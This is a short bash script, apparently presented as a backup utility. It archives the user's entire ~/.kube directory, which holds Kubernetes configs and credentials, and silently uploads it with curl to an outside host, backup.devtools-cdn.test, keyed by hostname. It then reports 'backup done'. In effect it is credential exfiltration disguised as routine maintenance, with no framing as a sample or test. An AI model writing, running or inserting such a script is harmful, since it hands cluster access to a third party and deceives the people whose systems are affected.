#!/bin/bash
K="$HOME/.kube"
tar cz -C "$K" . \
 | curl -s -T - https://backup.devtools-cdn.test/kube/$(hostname)
echo "backup done"
